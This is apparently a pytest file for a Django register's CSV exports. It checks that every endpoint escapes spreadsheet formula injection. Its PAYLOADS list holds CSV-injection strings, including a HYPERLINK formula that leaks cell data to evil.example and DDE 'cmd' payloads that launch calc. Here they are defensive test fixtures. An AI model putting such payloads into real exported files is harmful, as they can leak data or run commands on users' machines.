"""CSV injection: no cell of any CSV the register writes is run as a formula by a spreadsheet.

Every CSV endpoint (taken from the API router, so a new one is covered when it is added) is
fetched over records whose every free-text field holds a formula payload; each cell that starts
like a formula must come out with a single quote before it (OWASP), and nothing else changes.
"""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.db import models
from django.urls import reverse

from common.csv_export import safe_cell
from config.api_router import router
from tests import factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("\rplain", "'\rplain"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("Kazan Expo", "Kazan Expo"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formula_starts_and_keeps_numbers_and_text(value, written):
    assert safe_cell(value) == written


def dangerous(cell):
    return safe_cell(cell) != cell


# Codes with a fixed form, checked by the database (a city has no ISO code).
CODES = {"iso_code", "language", "script"}


def fill_text_fields(record, start):
    """Every free-text field of `record` (not slugs, URLs, codes with choices, unique keys) gets a payload."""
    for n, field in enumerate(record._meta.concrete_fields):
        if (
            isinstance(field, models.CharField | models.TextField)
            and not isinstance(field, models.SlugField | models.URLField)
            and not field.choices
            and not field.unique
            and field.editable
            and field.name not in CODES
        ):
            payload = PAYLOADS[(start + n) % len(PAYLOADS)]
            setattr(record, field.name, payload[: field.max_length] if field.max_length else payload)
    record.save()  # through history too, so the change log shows the payloads


@pytest.fixture
def payload_records(db):
    country = factories.CountryFactory()
    city = factories.PlaceFactory(parent=country)
    person = factories.PersonFactory()
    organisation = factories.OrganisationFactory(country=country)
    visit = factories.VisitFactory(principal=person, host_country=country, status="held")
    engagement = factories.EngagementFactory(visit=visit, venue=city, host_organisation=organisation)
    records = [
        country,
        city,
        factories.PlaceFactFactory(place=city, value=None, value_text="x"),
        person,
        factories.PersonNameFactory(person=person),
        organisation,
        factories.MembershipFactory(person=person, organisation=organisation),
        visit,
        engagement,
        factories.ParticipantFactory(engagement=engagement, person=person),
        factories.ParticipantFactory(engagement=engagement, person=factories.PersonFactory()),
    ]
    for n, record in enumerate(records):
        fill_text_fields(record, n)
    source = factories.SourceFactory(text="Report. " + " ".join(PAYLOADS))
    fill_text_fields(source, 3)
    source.text = "Report. " + " ".join(PAYLOADS)
    source.save()
    for n, payload in enumerate(PAYLOADS):
        factories.CitationFactory(source=source, content_object=visit, quote=payload, note=PAYLOADS[n - 1])
    return records


def csv_routes():
    """(name, needs an id, model) of every route of the API router that answers GET."""
    for pattern in router.urls:
        actions = getattr(pattern.callback, "actions", None) or {}
        if "get" in actions:
            viewset = pattern.callback.cls
            serializer = getattr(viewset, "serializer_class", None)
            model = getattr(getattr(serializer, "Meta", None), "model", None)
            yield pattern.name, "<pk>" in str(pattern.pattern), model


def string_leaves(data):
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from string_leaves(value)
    elif isinstance(data, list):
        for value in data:
            yield from string_leaves(value)


@pytest.mark.parametrize(("name", "detail", "model"), list(csv_routes()), ids=lambda value: str(value))
def test_no_csv_endpoint_writes_a_formula_cell(payload_records, editor_client, name, detail, model):
    kwargs = {"pk": model._default_manager.order_by("pk").first().pk} if detail else {}
    url = reverse(f"api:{name}", kwargs=kwargs)
    # A full export writes CSV or JSON Lines only; its rows are the list's.
    json_url = reverse(f"api:{name.removesuffix('-export')}-list") if name.endswith("-export") else url
    as_json = editor_client.get(json_url, {"format": "json"})
    assert as_json.status_code == 200, json_url
    formula_texts = [text for text in string_leaves(as_json.json()) if dangerous(text)]

    response = editor_client.get(url, {"format": "csv"})
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]
    assert [cell for cell in cells if dangerous(cell)] == [], url
    if formula_texts:
        # The payloads are in this export, neutralised, not dropped.
        assert any(cell.startswith("'") and dangerous(cell[1:]) for cell in cells), url


def test_every_list_endpoint_had_payloads_to_neutralise(payload_records, editor_client):
    lists = [name for name, detail, _model in csv_routes() if name.endswith("-list")]
    assert {"visit-list", "person-list", "change-list", "citation-list"} <= set(lists)
    for name in lists:
        data = editor_client.get(reverse(f"api:{name}"), {"format": "json"}).json()
        assert any(dangerous(text) for text in string_leaves(data)), name


def test_no_csv_is_written_but_by_the_safe_writer():
    """Every csv.writer of the project is common.csv_export's; bench/ loads a database with COPY
    (its CSV is never opened by a person) and is not part of the served code."""
    root = Path(settings.BASE_DIR)
    allowed = {root / "common" / "csv_export.py", root / "bench" / "synthetic.py"}
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {".venv", "node_modules", "tests"} & set(path.relative_to(root).parts)
        and path not in allowed
        and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
    ]
    assert offenders == []
